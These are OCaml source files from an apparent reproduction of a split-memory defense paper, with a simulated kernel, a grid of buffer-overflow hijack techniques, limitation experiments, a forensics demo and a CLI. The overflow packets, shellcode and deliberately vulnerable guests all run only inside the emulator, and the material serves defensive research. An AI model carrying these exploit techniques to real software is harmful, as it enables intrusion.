    Runner.send s "VAL!";
    ignore (Runner.step s)
  end;
  (Runner.outcome s, Kernel.Os.read_stdout s.k s.victim)
