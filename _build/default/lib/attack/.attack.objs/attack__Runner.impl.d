lib/attack/runner.ml: Char Defense Fmt Kernel List String
