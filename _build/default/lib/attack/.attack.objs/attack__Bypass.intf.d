lib/attack/bypass.mli: Defense Kernel Runner
