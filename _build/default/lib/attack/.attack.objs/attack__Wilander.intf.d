lib/attack/wilander.mli: Defense Kernel Runner
