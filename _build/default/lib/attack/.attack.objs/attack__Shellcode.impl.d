lib/attack/shellcode.ml: Char Isa List String
