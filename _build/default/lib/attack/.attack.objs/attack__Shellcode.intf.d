lib/attack/shellcode.mli: Isa
