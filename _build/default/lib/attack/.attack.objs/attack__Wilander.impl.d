lib/attack/wilander.ml: Fmt Guest Isa Kernel Runner Shellcode
