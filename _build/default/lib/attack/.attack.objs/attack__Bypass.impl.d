lib/attack/bypass.ml: Guest Isa Kernel Runner Shellcode String
