lib/attack/limitations.ml: Guest Isa Kernel Runner Shellcode String
