lib/attack/limitations.mli: Defense Kernel Runner
