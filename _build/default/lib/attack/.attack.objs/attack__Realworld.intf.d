lib/attack/realworld.mli: Defense Kernel Runner
