lib/attack/realworld.ml: Char Guest Hw Isa Kernel List Runner Shellcode String
