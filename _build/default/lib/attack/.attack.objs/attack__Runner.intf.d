lib/attack/runner.mli: Defense Kernel
