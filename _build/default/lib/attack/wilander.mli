(** Reconstruction of the Wilander & Kamkar buffer-overflow benchmark used
    for the paper's Table 1: control-flow hijack techniques crossed with
    the segment the shellcode is injected into.

    Every victim is a real guest program with a genuine memory-safety bug
    (an unbounded newline-terminated copy); every exploit follows the
    real-world shape: leak the landing address, plant encoded shellcode,
    send the overflow packet. *)

type technique =
  | Ret_addr  (** direct overwrite of the saved return address *)
  | Base_ptr  (** saved-EBP overwrite; pivot into a fake frame *)
  | Func_ptr_var  (** function pointer adjacent to a global buffer *)
  | Func_ptr_param  (** function pointer passed as a stack parameter *)
  | Longjmp_var  (** jmp_buf adjacent to a bss buffer *)
  | Longjmp_param  (** heap jmp_buf reached through a parameter *)
  | Ptr_ret_addr  (** clobbered data pointer redirects a write onto the return address *)
  | Ptr_func_ptr  (** ... onto a function pointer *)
  | Ptr_longjmp  (** ... onto a jmp_buf *)

val is_indirect : technique -> bool
(** Wilander's pointer-redirection class (vs direct overflow). *)

type location = Stack | Heap | Bss | Data

val techniques : technique list
val locations : location list
val technique_name : technique -> string
val location_name : location -> string

val victim : technique -> Kernel.Image.t
(** The vulnerable guest server for one hijack technique; the injection
    segment is chosen at runtime by the exploit's selector byte. *)

val run : ?defense:Defense.t -> technique -> location -> Runner.outcome
(** Full exploit session: selector, leak, shellcode, overflow packet. *)

val benign_run : ?defense:Defense.t -> technique -> Runner.outcome * string
(** Non-malicious session: the victim must complete normally and print
    "DONE" under every defense. *)

val packet : technique -> landing:int -> string
(** The overflow packet for a given shellcode landing address. *)

val shellcode : technique -> landing:int -> string
