open Isa.Asm

(* The paper's §7 limitations, reproduced as experiments:

   - non-control-data attacks (ref [25]) corrupt decision-making data and
     never execute injected code — split memory does not stop them;
   - return-into-existing-code reuses instructions already on code pages —
     split memory does not stop it either (the paper points to ASLR as the
     complement);
   - self-modifying code (ref [36]) legitimately writes then executes the
     same bytes — a split address space cannot support it. *)

let contains haystack needle =
  let nh = String.length haystack and nn = String.length needle in
  let rec go i = i + nn <= nh && (String.sub haystack i nn = needle || go (i + 1)) in
  nn = 0 || go 0

(* --- non-control-data ----------------------------------------------------- *)

let bank_victim () =
  Kernel.Image.build ~name:"bank"
    ~data:(fun ~lbl:_ ->
      [
        L "pkt";
        Space 128;
        Align 16;
        L "pw_buf";
        Space 64;
        L "is_admin";
        Word32 0;
        L "secret";
        Bytes "S3CR3T!!";
        L "deny";
        Bytes "DENY";
      ])
    ~code:(fun ~lbl ->
      (L "main" :: Guest.sys_read_imm ~buf:(lbl "pkt") ~len:128)
      @ [ I (Mov_ri (ESI, lbl "pkt")); I (Mov_ri (EDI, lbl "pw_buf")) ]
      @ Guest.copy_until_newline ~tag:"pw"
      @ [
          I (Mov_ri (ESI, lbl "is_admin"));
          I (Load (EAX, ESI, 0));
          I (Cmp_ri (EAX, 0));
          I (Jz (Lbl "denied"));
        ]
      @ Guest.sys_write_imm ~buf:(lbl "secret") ~len:8 ()
      @ Guest.sys_exit 0
      @ (L "denied" :: Guest.sys_write_imm ~buf:(lbl "deny") ~len:4 ())
      @ Guest.sys_exit 1)
    ~entry:"main" ()

(* Overflow the password buffer to flip the adjacent privilege flag; no
   code is injected, nothing is ever fetched from a data page. Returns
   whether the secret leaked. *)
let run_non_control_data ?defense () =
  let s = Runner.start ?defense (bank_victim ()) in
  Runner.send s (Guest.filler 64 ^ Shellcode.word32 1 ^ "\n");
  ignore (Runner.step s);
  let out = Kernel.Os.read_stdout s.k s.victim in
  contains out "S3CR3T!!"

(* --- return into existing code -------------------------------------------- *)

let launcher_victim () =
  Kernel.Image.build ~name:"launcher"
    ~data:(fun ~lbl:_ -> [ L "pkt"; Space 256; L "sh"; Bytes "/bin/sh\000"; L "bye"; Bytes "BYE!" ])
    ~code:(fun ~lbl ->
      (L "main" :: Guest.sys_read_imm ~buf:(lbl "pkt") ~len:256)
      @ [
          I (Mov_ri (EAX, lbl "pkt"));
          I (Push EAX);
          I (Call (Lbl "vuln"));
          I (Add_ri (ESP, 4));
        ]
      @ Guest.sys_write_imm ~buf:(lbl "bye") ~len:4 ()
      @ Guest.sys_exit 0
      @ [
          L "vuln";
          I (Push EBP);
          I (Mov_rr (EBP, ESP));
          I (Add_ri (ESP, -64));
          I (Load (ESI, EBP, 8));
          I (Lea (EDI, EBP, -64));
        ]
      @ Guest.copy_until_newline ~tag:"v"
      @ [ I (Mov_rr (ESP, EBP)); I (Pop EBP); I Ret ]
      @ [
          (* privileged functionality already present on the code pages —
             a system()-style helper *)
          L "grant_shell";
          I (Mov_ri (EBX, lbl "sh"));
          I (Mov_ri (EAX, 11));
          I (Int 0x80);
          I (Mov_ri (EAX, 1));
          I (Mov_ri (EBX, 0));
          I (Int 0x80);
        ])
    ~entry:"main" ()

(* Classic return-into-existing-code: the overwritten return address points
   at [grant_shell], which the image legitimately contains. No injected
   byte is ever fetched, so split memory has nothing to catch. *)
let run_ret_into_code ?defense () =
  let image = launcher_victim () in
  let s = Runner.start ?defense image in
  let target = Kernel.Image.label image "grant_shell" in
  let packet = Guest.filler 64 ^ Shellcode.word32 target ^ Shellcode.word32 target in
  assert (not (Shellcode.contains_newline packet));
  Runner.send s (packet ^ "\n");
  ignore (Runner.step s);
  Runner.outcome s

(* --- self-modifying code --------------------------------------------------- *)

let smc_victim () =
  (* The generated code the program writes at runtime: exit(55). *)
  let patch =
    Shellcode.assemble_at ~base:0
      [ I (Mov_ri (EBX, 55)); I (Mov_ri (EAX, 1)); I (Int 0x80) ]
  in
  Kernel.Image.build ~name:"smc"
    ~data:(fun ~lbl:_ -> [ L "patch_bytes"; Bytes patch ])
    ~mixed:(fun ~lbl:_ -> [ L "patch_area"; Space 64 ])
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Mov_ri (ESI, lbl "patch_bytes"));
        I (Mov_ri (EDI, lbl "patch_area"));
        I (Mov_ri (ECX, String.length patch));
      ]
      @ Guest.copy_counted ~tag:"gen"
      @ [ I (Mov_ri (ESI, lbl "patch_area")); I (Jmp_r ESI) ])
    ~entry:"main" ()

(* A JIT in miniature: emit code, jump to it. Works unprotected and under
   plain NX (the mixed page stays executable); under split memory the
   generated code lands on the data copy and can never be fetched — the
   legitimate program breaks, exactly the incompatibility §7 concedes. *)
let run_self_modifying ?defense () =
  let s = Runner.start ?defense (smc_victim ()) in
  ignore (Runner.step s);
  Runner.outcome s
