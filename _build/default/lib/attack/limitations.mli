(** The paper's §7 limitations, reproduced as experiments. Split memory
    prevents the {e execution of injected code}; these three cases fall
    outside that guarantee by construction. *)

val bank_victim : unit -> Kernel.Image.t

val run_non_control_data : ?defense:Defense.t -> unit -> bool
(** Overflow flips an adjacent privilege flag (non-control-data attack,
    ref [25]); returns whether the secret leaked. True under {e every}
    defense, including split memory. *)

val launcher_victim : unit -> Kernel.Image.t

val run_ret_into_code : ?defense:Defense.t -> unit -> Runner.outcome
(** Return-into-existing-code: the hijacked return address targets a
    privileged helper already on the code pages. Spawns a shell under
    every defense here; the paper points to ASLR as the complement. *)

val smc_victim : unit -> Kernel.Image.t

val run_self_modifying : ?defense:Defense.t -> unit -> Runner.outcome
(** A miniature JIT: emit code, jump to it. [Completed 55] where it works
    (unprotected, NX); under split memory the generated code is
    unreachable by fetch and the program breaks — the self-modifying-code
    incompatibility of §7. *)
