(* Forensics: the response mode of paper §4.5.3 / §6.1.3, upgraded to the
   lib/snap capture path. The kernel detects the injection right before the
   first injected instruction executes; Snap.Forensics freezes the whole
   machine into a snapshot at that instant, diffs the faulting page's
   pristine code copy against its data copy, and extracts the injected
   payload from the diff. The second half shows the paper's own demo: the
   kernel substituting an exit(0) "forensic shellcode" so the victim
   terminates gracefully instead of segfaulting.

   Run with: dune exec examples/forensics_demo.exe *)

let dump_events k =
  List.iter
    (fun e -> Fmt.pr "  %a@." Kernel.Event_log.pp_event e)
    (Kernel.Event_log.to_list (Kernel.Os.log k))

let () =
  Fmt.pr "=== forensic capture at the detection instant (lib/snap) ===@.";
  let scenario =
    match Snap.Scenario.find "attack-break" with
    | Some s -> s
    | None -> assert false
  in
  let dir = Filename.concat (Filename.get_temp_dir_name ()) "forensics_demo" in
  let os = scenario.start () in
  let captures = Snap.Forensics.arm ~dir os in
  ignore (Kernel.Os.run ~fuel:2_000_000 os : Kernel.Os.stop_reason);
  (match !captures with
  | [] -> Fmt.pr "no detection (unexpected)@."
  | c :: _ ->
    let t = c.Snap.Forensics.c_trigger in
    Fmt.pr "detection: pid %d at eip 0x%08x (%s response), cycle %d@." t.t_pid
      t.t_eip t.t_mode
      (Snap.Snapshot.cycle c.c_snapshot);
    Option.iter
      (fun (d : Snap.Forensics.page_diff) ->
        Fmt.pr "page diff: vpn %d — code copy (frame %d) vs data copy (frame %d)@."
          d.pd_vpn d.pd_code_frame d.pd_data_frame)
      c.c_diff;
    let page_size = Snap.Snapshot.page_size c.c_snapshot in
    let base = (t.t_eip land lnot (page_size - 1)) + c.c_payload_off in
    Fmt.pr "extracted %d injected bytes; disassembly:@.%s@."
      (String.length c.c_payload)
      (Isa.Disasm.to_string ~base c.c_payload ~pos:0
         ~len:(String.length c.c_payload));
    Option.iter
      (fun d ->
        Fmt.pr "artifacts (whole-machine snapshot + manifest, payload, diff) -> %s@." d)
      c.c_dir;
    Fmt.pr "@.kernel log inside the frozen snapshot:@.";
    let os2 = scenario.start () in
    Snap.Snapshot.restore os2 c.c_snapshot;
    dump_events os2);

  Fmt.pr "@.=== forensics: inject exit(0) shellcode (paper's demo) ===@.";
  let defense =
    Defense.split_with
      ~response:(Split_memory.Response.Forensics { payload = Some Attack.Shellcode.exit0 })
      ()
  in
  let outcome, s = Attack.Realworld.run_wuftpd ~defense () in
  Fmt.pr "outcome: %s (no segfault: the forensic payload ran instead)@."
    (Attack.Runner.outcome_name outcome);
  dump_events s.k
