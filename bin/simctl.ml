(* simctl — drive the split-memory simulator from the command line:
   run attacks under a chosen defense and response mode, inspect logs,
   and run individual workloads. *)

open Cmdliner

(* Every subcommand failure — bad flag values, unusable input files,
   gate violations — funnels through this one printer: same prefix, same
   stream, same nonzero exit for each of them. *)
let die fmt =
  Fmt.kstr
    (fun msg ->
      Fmt.epr "simctl: %s@." msg;
      exit 1)
    fmt

let defense_conv =
  let parse = function
    | "none" | "unprotected" -> Ok Defense.unprotected
    | "nx" -> Ok Defense.nx
    | "split" -> Ok Defense.split_standalone
    | "split+nx" -> Ok Defense.split_mixed_plus_nx
    | "soft-tlb" -> Ok Defense.split_soft_tlb
    | "dual-cr3" -> Ok Defense.split_dual_cr3
    | s -> (
      match int_of_string_opt (Filename.chop_suffix_opt ~suffix:"%" s |> Option.value ~default:"") with
      | Some pct when pct >= 0 && pct <= 100 -> Ok (Defense.split_fraction pct)
      | _ -> Error (`Msg (Fmt.str "unknown defense %S (none|nx|split|split+nx|<pct>%%)" s)))
  in
  Arg.conv (parse, fun ppf d -> Fmt.string ppf (Defense.name d))

let defense_arg =
  Arg.(
    value
    & opt defense_conv Defense.split_standalone
    & info [ "d"; "defense" ] ~docv:"DEFENSE"
        ~doc:"Protection: none, nx, split, split+nx, soft-tlb, dual-cr3, or N% (fraction split + nx).")

let response_conv =
  let parse = function
    | "break" -> Ok Split_memory.Response.Break
    | "observe" -> Ok (Split_memory.Response.Observe { sebek = true })
    | "forensics" -> Ok (Split_memory.Response.Forensics { payload = None })
    | "forensics-exit" ->
      Ok (Split_memory.Response.Forensics { payload = Some Attack.Shellcode.exit0 })
    | s -> Error (`Msg (Fmt.str "unknown response %S" s))
  in
  Arg.conv (parse, fun ppf r -> Fmt.string ppf (Split_memory.Response.name r))

let response_arg =
  Arg.(
    value
    & opt (some response_conv) None
    & info [ "r"; "response" ] ~docv:"MODE"
        ~doc:"Response mode: break, observe, forensics, forensics-exit (forces split defense).")

let apply_response defense = function
  | None -> defense
  | Some response -> Defense.split_with ~response ()

let show_outcome_and_log outcome (k : Kernel.Os.t) =
  Fmt.pr "outcome: %s@." (Attack.Runner.outcome_name outcome);
  Fmt.pr "--- kernel log ---@.%a@." Kernel.Event_log.pp (Kernel.Os.log k)

(* observability plumbing *)

let metrics_arg =
  Arg.(
    value & flag
    & info [ "metrics" ]
        ~doc:"Print the metrics snapshot (counters, gauges, histograms) after the run.")

let trace_arg =
  Arg.(
    value
    & opt (some string) None
    & info [ "trace" ] ~docv:"FILE"
        ~doc:"Write the cycle-stamped event trace to $(docv) as JSON Lines.")

let chrome_arg =
  Arg.(
    value
    & opt (some string) None
    & info [ "chrome-trace" ] ~docv:"FILE"
        ~doc:
          "Write the trace as a Chrome trace_event document (load it in \
           about://tracing or Perfetto).")

let make_obs ~metrics ~trace ~chrome =
  if metrics || trace <> None || chrome <> None then Obs.create () else Obs.null

let render_metrics reg =
  let counters = Obs.Metrics.counters reg in
  if counters <> [] then
    print_string
      (Report.table ~title:"counters" ~header:[ "counter"; "count" ]
         (List.map (fun (n, c) -> [ n; string_of_int c ]) counters));
  let gauges = Obs.Metrics.gauges reg in
  if gauges <> [] then
    print_string
      (Report.table ~title:"gauges" ~header:[ "gauge"; "value" ]
         (List.map (fun (n, v) -> [ n; Fmt.str "%.2f" v ]) gauges));
  List.iter
    (fun (h : Obs.Metrics.histogram) ->
      if h.n > 0 then
        print_string
          (Report.dist
             ~title:
               (Fmt.str "%s (n=%d mean=%.1f min=%d max=%d)" h.h_name h.n
                  (Obs.Metrics.mean h) h.vmin h.vmax)
             (List.map
                (fun (lo, hi, c) -> (Fmt.str "%d..%d" lo hi, c))
                (Obs.Metrics.nonzero_buckets h))))
    (Obs.Metrics.histograms reg);
  List.iter
    (fun (name, cells) ->
      let top = List.filteri (fun i _ -> i < 10) cells in
      if top <> [] then print_string (Report.dist ~title:(name ^ " (top 10)") top))
    (Obs.Metrics.labeled_sets reg)

let finish_obs obs ~metrics ~trace ~chrome =
  if Obs.enabled obs then begin
    if metrics then render_metrics (Obs.snapshot obs);
    let write what f emit =
      try emit f
      with Sys_error msg -> Fmt.epr "simctl: cannot write %s: %s@." what msg
    in
    Option.iter
      (fun f ->
        write "trace" f (fun f ->
            Obs.write_trace obs f;
            Fmt.pr "trace: %d events -> %s@." (List.length (Obs.events obs)) f))
      trace;
    Option.iter
      (fun f ->
        write "chrome trace" f (fun f ->
            Obs.write_chrome_trace obs f;
            Fmt.pr "chrome trace -> %s@." f))
      chrome
  end

(* --strace: per-syscall tracing via the kernel's syscall_tracer hook *)

let strace_arg =
  Arg.(
    value & flag
    & info [ "strace" ]
        ~doc:
          "Print every syscall as it is dispatched (name, pid, arguments, result, \
           service cycles), plus an $(b,strace -c)-style summary at exit.")

type strace_row = { mutable st_calls : int; mutable st_cycles : int }

(* Returns the machine hook to install (None when disabled) and the
   end-of-run summary printer. *)
let make_strace enabled =
  if not enabled then (None, fun () -> ())
  else begin
    let tally : (string, strace_row) Hashtbl.t = Hashtbl.create 16 in
    let trace (tr : Kernel.Machine.syscall_trace) =
      let ebx, ecx, edx = tr.sys_args in
      let result =
        match tr.sys_outcome with
        | Kernel.Machine.Returned v -> string_of_int v
        | Kernel.Machine.Blocked -> "? (blocked)"
        | Kernel.Machine.Exited -> "? (process exited)"
      in
      Fmt.pr "[pid %d] %s(0x%x, 0x%x, 0x%x) = %s <%d cycles>@." tr.sys_pid tr.sys_name
        ebx ecx edx result tr.sys_cycles;
      let row =
        match Hashtbl.find_opt tally tr.sys_name with
        | Some row -> row
        | None ->
          let row = { st_calls = 0; st_cycles = 0 } in
          Hashtbl.add tally tr.sys_name row;
          row
      in
      row.st_calls <- row.st_calls + 1;
      row.st_cycles <- row.st_cycles + tr.sys_cycles
    in
    let tune k = Kernel.Os.set_syscall_tracer k (Some trace) in
    let summary () =
      let rows = Hashtbl.fold (fun name row acc -> (name, row) :: acc) tally [] in
      if rows <> [] then begin
        let rows =
          List.sort
            (fun (na, a) (nb, b) ->
              match compare (b.st_cycles, b.st_calls) (a.st_cycles, a.st_calls) with
              | 0 -> compare na nb
              | c -> c)
            rows
        in
        let total_cycles = List.fold_left (fun s (_, r) -> s + r.st_cycles) 0 rows in
        let total_calls = List.fold_left (fun s (_, r) -> s + r.st_calls) 0 rows in
        let pct c =
          if total_cycles = 0 then 0.
          else 100. *. float_of_int c /. float_of_int total_cycles
        in
        print_string
          (Report.table ~title:"strace summary"
             ~header:[ "% time"; "cycles"; "calls"; "syscall" ]
             (List.map
                (fun (name, r) ->
                  [
                    Fmt.str "%.2f" (pct r.st_cycles);
                    string_of_int r.st_cycles;
                    string_of_int r.st_calls;
                    name;
                  ])
                rows
             @ [
                 [
                   "100.00";
                   string_of_int total_cycles;
                   string_of_int total_calls;
                   "total";
                 ];
               ]))
      end
    in
    (Some tune, summary)
  end

(* The machine's own counters, printed after every attack/workload run. *)
let show_machine (k : Kernel.Os.t) =
  let mmu = Kernel.Os.mmu k in
  Fmt.pr "%a@." Hw.Cost.pp (Kernel.Os.cost k);
  Fmt.pr "%a@." Hw.Tlb.pp_stats (Hw.Mmu.itlb mmu);
  Fmt.pr "%a@." Hw.Tlb.pp_stats (Hw.Mmu.dtlb mmu)

(* attack command *)

let attack_names =
  [
    ("apache", `Real Attack.Realworld.Apache_ssl);
    ("bind", `Real Attack.Realworld.Bind);
    ("proftpd", `Real Attack.Realworld.Proftpd);
    ("samba", `Real Attack.Realworld.Samba);
    ("wuftpd", `Real Attack.Realworld.Wuftpd);
    ("nx-bypass", `Nx_bypass);
    ("mixed-page", `Mixed);
  ]

let attack_arg =
  Arg.(
    required
    & pos 0 (some (enum attack_names)) None
    & info [] ~docv:"ATTACK"
        ~doc:"One of: apache, bind, proftpd, samba, wuftpd, nx-bypass, mixed-page.")

let attack_cmd =
  let run defense response metrics trace chrome strace which =
    let defense = apply_response defense response in
    let obs = make_obs ~metrics ~trace ~chrome in
    let tune, strace_summary = make_strace strace in
    (match which with
    | `Real Attack.Realworld.Wuftpd ->
      let o, s = Attack.Realworld.run_wuftpd ~defense ~obs ?tune () in
      show_outcome_and_log o s.k;
      show_machine s.k
    | `Real id ->
      let o, s = Attack.Realworld.run_session ~defense ~obs ?tune id in
      Fmt.pr "outcome: %s@." (Attack.Runner.outcome_name o);
      Option.iter (fun (s : Attack.Runner.session) -> show_machine s.k) s
    | `Nx_bypass ->
      let o, s = Attack.Bypass.run_nx_bypass_session ~defense ~obs ?tune () in
      Fmt.pr "outcome: %s@." (Attack.Runner.outcome_name o);
      show_machine s.k
    | `Mixed ->
      let o, s = Attack.Bypass.run_mixed_page_session ~defense ~obs ?tune () in
      Fmt.pr "outcome: %s@." (Attack.Runner.outcome_name o);
      show_machine s.k);
    strace_summary ();
    finish_obs obs ~metrics ~trace ~chrome
  in
  Cmd.v
    (Cmd.info "attack" ~doc:"Run a real-world attack simulation under a defense.")
    Term.(
      const run $ defense_arg $ response_arg $ metrics_arg $ trace_arg $ chrome_arg
      $ strace_arg $ attack_arg)

(* grid command *)

let grid_cmd =
  let run defense =
    List.iter
      (fun t ->
        List.iter
          (fun l ->
            let o = Attack.Wilander.run ~defense t l in
            Fmt.pr "%-34s %-6s %s@."
              (Attack.Wilander.technique_name t)
              (Attack.Wilander.location_name l)
              (Attack.Runner.outcome_name o))
          Attack.Wilander.locations)
      Attack.Wilander.techniques
  in
  Cmd.v
    (Cmd.info "grid" ~doc:"Run the 9x4 Wilander-style attack grid under a defense.")
    Term.(const run $ defense_arg)

(* workload command *)

let workload_names =
  [
    ("apache32k", `Apache 32768);
    ("apache1k", `Apache 1024);
    ("gzip", `Gzip);
    ("nbench", `Nbench);
    ("ctxsw", `Ctxsw);
    ("unixbench", `Unixbench);
  ]

let workload_arg =
  Arg.(
    required
    & pos 0 (some (enum workload_names)) None
    & info [] ~docv:"WORKLOAD"
        ~doc:"One of: apache32k, apache1k, gzip, nbench, ctxsw, unixbench.")

let jobs_arg =
  Arg.(
    value
    & opt (some int) None
    & info [ "j"; "jobs" ] ~docv:"N"
        ~doc:
          "Worker domains for multi-machine workloads (unixbench). Default: the \
           machine's recommended domain count. Output is identical for any $(docv).")

(* Shared by the workload and stats commands: every workload is built as a
   first-class experiment spec and executed with the kernel in hand so the
   machine counters (cost, TLBs) can be printed. *)
let exec_workload ?tune ~obs ~jobs ~defense which =
  let show_spec spec =
    let (r : Workload.Harness.result), k = Workload.Harness.run_k ~obs ?tune spec in
    Fmt.pr
      "%s under %s: %d cycles, %d insns, %d traps, %d split faults, %d ctx switches@."
      r.label r.defense r.cycles r.insns r.traps r.split_faults r.ctx_switches;
    show_machine k
  in
  match which with
  | `Apache size -> show_spec (Workload.Figures.apache_spec ~defense ~size ~requests:25)
  | `Gzip -> show_spec (Workload.Figures.gzip_spec ~defense ~size:(48 * 1024))
  | `Nbench ->
    show_spec (Workload.Harness.single ~defense (Workload.Guests.nbench ~iters:60 ()))
  | `Ctxsw -> show_spec (Workload.Figures.ctxsw_spec ~defense ~iters:250)
  | `Unixbench ->
    (* The only multi-machine workload: fan its pieces over the fleet. *)
    if Option.is_some tune then
      Fmt.epr "simctl: --strace is not supported for fleet workloads; ignored@.";
    let jobs = match jobs with Some j -> j | None -> Fleet.default_jobs () in
    List.iter
      (fun (name, v) -> Fmt.pr "%-20s %.3f@." name v)
      (Workload.Figures.unixbench_pieces ~jobs ~defense ())

let workload_cmd =
  let run defense jobs metrics trace chrome strace which =
    let obs = make_obs ~metrics ~trace ~chrome in
    let tune, strace_summary = make_strace strace in
    exec_workload ?tune ~obs ~jobs ~defense which;
    strace_summary ();
    finish_obs obs ~metrics ~trace ~chrome
  in
  Cmd.v
    (Cmd.info "workload" ~doc:"Run a benchmark workload under a defense and print counters.")
    Term.(
      const run $ defense_arg $ jobs_arg $ metrics_arg $ trace_arg $ chrome_arg
      $ strace_arg $ workload_arg)

(* stats command: the workload run with the full observability readout *)

let stats_cmd =
  let run defense jobs trace chrome which =
    let obs = Obs.create () in
    exec_workload ~obs ~jobs ~defense which;
    finish_obs obs ~metrics:true ~trace ~chrome
  in
  Cmd.v
    (Cmd.info "stats"
       ~doc:
         "Run a workload with observability on and render the full metrics snapshot \
          (counters, gauges, latency histograms, per-page/per-pid tallies).")
    Term.(const run $ defense_arg $ jobs_arg $ trace_arg $ chrome_arg $ workload_arg)

(* disasm / layout commands *)

let image_names =
  [
    ("apache", fun () -> Attack.Realworld.victim Attack.Realworld.Apache_ssl);
    ("bind", fun () -> Attack.Realworld.victim Attack.Realworld.Bind);
    ("proftpd", fun () -> Attack.Realworld.victim Attack.Realworld.Proftpd);
    ("samba", fun () -> Attack.Realworld.victim Attack.Realworld.Samba);
    ("wuftpd", fun () -> Attack.Realworld.victim Attack.Realworld.Wuftpd);
    ("plugin-host", Attack.Bypass.plugin_host);
    ("javavm", Attack.Bypass.jit_victim);
    ("bank", Attack.Limitations.bank_victim);
    ("launcher", Attack.Limitations.launcher_victim);
    ("smc", Attack.Limitations.smc_victim);
  ]

let image_arg =
  Arg.(
    required
    & pos 0 (some (enum image_names)) None
    & info [] ~docv:"IMAGE"
        ~doc:
          "One of: apache, bind, proftpd, samba, wuftpd, plugin-host, javavm, bank, \
           launcher, smc.")

let disasm_cmd =
  let run mk =
    let image = mk () in
    List.iter
      (fun (seg : Kernel.Image.segment) ->
        match seg.kind with
        | Kernel.Image.Code | Kernel.Image.Lib | Kernel.Image.Mixed ->
          Fmt.pr "; segment %s at 0x%08x (%d bytes)@." (Kernel.Image.seg_kind_name seg.kind)
            seg.base (String.length seg.bytes);
          Fmt.pr "%s@.@."
            (Isa.Disasm.to_string ~base:seg.base seg.bytes ~pos:0
               ~len:(String.length seg.bytes))
        | Kernel.Image.Rodata | Kernel.Image.Data -> ())
      image.Kernel.Image.segments
  in
  Cmd.v
    (Cmd.info "disasm" ~doc:"Disassemble a victim image's code segments.")
    Term.(const run $ image_arg)

let layout_cmd =
  let run mk =
    let image = mk () in
    Fmt.pr "image %s, entry 0x%08x, bss %d bytes, signature %x@."
      image.Kernel.Image.name image.entry image.bss_size image.signature;
    List.iter
      (fun (seg : Kernel.Image.segment) ->
        Fmt.pr "  %-7s 0x%08x..0x%08x %s@."
          (Kernel.Image.seg_kind_name seg.kind)
          seg.base
          (seg.base + String.length seg.bytes)
          (if seg.writable then "rw" else "ro"))
      image.segments;
    let labels =
      Hashtbl.fold (fun l a acc -> (a, l) :: acc) image.labels [] |> List.sort compare
    in
    List.iter (fun (a, l) -> Fmt.pr "  %-24s 0x%08x@." l a) labels
  in
  Cmd.v
    (Cmd.info "layout" ~doc:"Print a victim image's segments and labels.")
    Term.(const run $ image_arg)

(* snapshot / restore / replay / diff commands (lib/snap) *)

let scenario_arg =
  let scen =
    Arg.enum (List.map (fun (s : Snap.Scenario.t) -> (s.name, s)) Snap.Scenario.all)
  in
  Arg.(
    required
    & pos 0 (some scen) None
    & info [] ~docv:"SCENARIO"
        ~doc:(Fmt.str "One of: %s." (String.concat ", " Snap.Scenario.names)))

let stop_name : Kernel.Os.stop_reason -> string = function
  | All_exited -> "all-exited"
  | All_blocked -> "all-blocked"
  | Fuel_exhausted -> "fuel-exhausted"

let save_snapshot ~obs ~file snap =
  try Some (Snap.Snapshot.save ~obs ~file snap)
  with Sys_error msg ->
    Fmt.epr "simctl: cannot write snapshot: %s@." msg;
    None

let load_snapshot file =
  try Snap.Snapshot.load file
  with
  | Sys_error msg -> die "cannot read snapshot: %s" msg
  | Snap.Codec.Corrupt msg -> die "%s is not a valid snapshot: %s" file msg

let snap_file_arg =
  Arg.(
    value
    & opt string "machine.snap"
    & info [ "o"; "output" ] ~docv:"FILE"
        ~doc:"Snapshot file to write ($(docv).manifest.json rides along).")

let fuel_arg ~default ~doc =
  Arg.(value & opt int default & info [ "fuel" ] ~docv:"INSNS" ~doc)

let snapshot_cmd =
  let run metrics trace chrome (scenario : Snap.Scenario.t) fuel file =
    let obs = make_obs ~metrics ~trace ~chrome in
    let os = scenario.start ~obs () in
    let stop = Kernel.Os.run ~fuel os in
    let snap =
      Snap.Snapshot.checkpoint
        ~meta:[ ("scenario", scenario.name); ("source", "simctl") ]
        os
    in
    (match save_snapshot ~obs ~file snap with
    | None -> exit 1
    | Some bytes ->
      Fmt.pr "snapshot: %s at cycle %d (%s), %d bytes -> %s@." scenario.name
        (Snap.Snapshot.cycle snap) (stop_name stop) bytes file;
      Fmt.pr "  frames written %d, all-zero skipped %d, procs: %a@."
        (Snap.Snapshot.frames_written snap)
        (Snap.Snapshot.frames_sparse_skipped snap)
        Fmt.(
          list ~sep:comma (fun ppf (pid, name, st) -> Fmt.pf ppf "%d:%s(%s)" pid name st))
        (Snap.Snapshot.proc_summaries snap));
    finish_obs obs ~metrics ~trace ~chrome
  in
  Cmd.v
    (Cmd.info "snapshot"
       ~doc:
         "Run a canonical scenario for a bounded number of instructions and write a \
          whole-machine snapshot (plus JSON manifest).")
    Term.(
      const run $ metrics_arg $ trace_arg $ chrome_arg $ scenario_arg
      $ fuel_arg ~default:1500
          ~doc:"Instructions to execute before the checkpoint is taken."
      $ snap_file_arg)

let restore_cmd =
  let file_arg =
    Arg.(
      required
      & pos 0 (some file) None
      & info [] ~docv:"FILE" ~doc:"Snapshot file written by $(b,simctl snapshot).")
  in
  let run metrics trace chrome file fuel =
    let snap = load_snapshot file in
    match
      Option.bind (Snap.Snapshot.find_meta snap "scenario") Snap.Scenario.find
    with
    | None ->
      die "snapshot %s names no known scenario (meta: %a)" file
        Fmt.(list ~sep:comma (pair ~sep:(any "=") string string))
        (Snap.Snapshot.meta snap)
    | Some scenario ->
      let obs = make_obs ~metrics ~trace ~chrome in
      let os = scenario.start ~obs () in
      Snap.Snapshot.restore os snap;
      Fmt.pr "restored %s (scenario %s) at cycle %d; resuming@." file scenario.name
        (Snap.Snapshot.cycle snap);
      let stop = Kernel.Os.run ~fuel os in
      Fmt.pr "stopped: %s@." (stop_name stop);
      Fmt.pr "--- kernel log ---@.%a@." Kernel.Event_log.pp (Kernel.Os.log os);
      show_machine os;
      finish_obs obs ~metrics ~trace ~chrome
  in
  Cmd.v
    (Cmd.info "restore"
       ~doc:
         "Load a snapshot into a fresh machine built by the scenario recorded in its \
          manifest, then resume execution to completion.")
    Term.(
      const run $ metrics_arg $ trace_arg $ chrome_arg $ file_arg
      $ fuel_arg ~default:2_000_000 ~doc:"Instruction budget for the resumed run.")

let replay_cmd =
  let snap_out_arg =
    Arg.(
      value
      & opt (some string) None
